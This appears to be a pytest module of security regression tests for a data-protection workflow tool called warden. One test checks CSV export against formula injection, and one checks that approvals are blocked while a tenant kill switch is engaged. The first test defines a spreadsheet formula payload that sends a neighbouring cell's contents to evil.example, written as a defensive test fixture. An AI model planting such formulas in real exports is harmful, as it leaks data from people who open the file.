"""Security review: attacks kept as tests. Each test here FAILS while the defect it names is
present (nothing is xfail); the attacks that held are listed in the module's final comment.

Real stores and servers: the live server of tests/server (uvicorn, DuckDB, SQLite, HTTP), the
`warden` CLI in subprocesses, and the service over a private copy of Acme.
"""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from pathlib import Path

import pytest
from tests.service._acme_tree import acme_copy

from warden.errors import WardenError
from warden.runbooks.load import parse_runbook
from warden.store import approvals, runs

REPO = Path(__file__).resolve().parents[2]
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Acme")'
"""A spreadsheet formula: Excel and LibreOffice evaluate a CSV cell that starts with = + - @."""


def _warden(home: Path, policy: Path, *args: str) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "WARDEN_HOME": str(home), "WARDEN_POLICY": str(policy)}
    env.pop("WARDEN_SERVER", None)
    env.pop("WARDEN_TOKEN", None)
    return subprocess.run(
        [sys.executable, "-m", "warden", *args], env=env, capture_output=True, text=True, timeout=300
    )


# --- 1. CSV formula injection: `warden ropa --format csv` ------------------------------------


def test_ropa_csv_does_not_carry_a_spreadsheet_formula_from_the_notice(tmp_path: Path) -> None:
    """An analyst uploads a notice whose first sentence starts with a formula; the DPO exports
    the record of processing activities as CSV for the spreadsheet the ROPA lives in. The quoted
    passage lands in a cell verbatim, starting with `=`: opening the export runs the formula
    (here: a link that sends the neighbouring cell to evil.example)."""
    acme = acme_copy(tmp_path / "acme")
    text = acme.notice.read_text()
    acme.notice.write_text(text.replace("Acme Ltd runs acme-shop.example", f"{FORMULA} runs acme-shop.example", 1))
    root = acme.completed()

    done = _warden(acme.home, acme.policy, "ropa", root, "--format", "csv", "--as", "dora@acme")
    assert done.returncode == 0, done.stderr
    assert "evil.example" in done.stdout  # the passage is quoted in the export ...
    cells = [c for row in csv.reader(io.StringIO(done.stdout)) for c in row]
    formulas = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    # ... but no cell may start with a formula trigger (prefix it with ' as OWASP advises)
    assert formulas == [], formulas[:3]


# --- 2. A decision taken while the tenant's kill switch is engaged ---------------------------


def test_no_decision_is_taken_while_the_kill_switch_is_engaged(tmp_path: Path) -> None:
    """The admin engages Acme's kill switch (an incident). A DPO still approves a waiting run,
    and an edited runbook passes the guard: the guard's `kill_switch` check reads only the
    policy the run is bound to, not the switch in force. The approval is recorded and a new
    runbook version is published under the switch; only then is the tree cancelled."""
    acme = acme_copy(tmp_path / "acme")
    service = acme.service()
    ana = service.principal("ana@acme", writing=True)
    dora, adam = service.principal("dora@acme"), service.principal("adam@acme")
    plain = service.start(ana, acme.notice, tenant="acme").root_run_id
    edited = service.start(ana, acme.notice, tenant="acme").root_run_id
    service.kill_switch(adam, "acme", engage=True, reason="incident 42")

    report = service.check_edit(dora, edited, (REPO / "runbooks" / "privacy-policy-review.yaml").read_text())
    assert not report.ok and "kill_switch" in {i.code for i in report.issues}, report.model_dump()

    refused: list[str] = []
    for run_id, runbook in ((plain, None), (edited, parse_runbook(
        (REPO / "runbooks" / "privacy-policy-review.yaml").read_text(), source="edit"))):
        try:
            service.decide(dora, run_id, "approve", role="dpo", edited_runbook=runbook)
        except WardenError as exc:
            refused.append(exc.code)
    with service.store.connect(read_only=True) as con:
        recorded = approvals.approvals_of_tree(con, plain) + approvals.approvals_of_tree(con, edited)
        published = approvals.versions_of(con, "acme", "privacy-policy-review")
    assert recorded == [] and published == [], (recorded, published)
    assert refused == ["kill_switch", "kill_switch"], refused
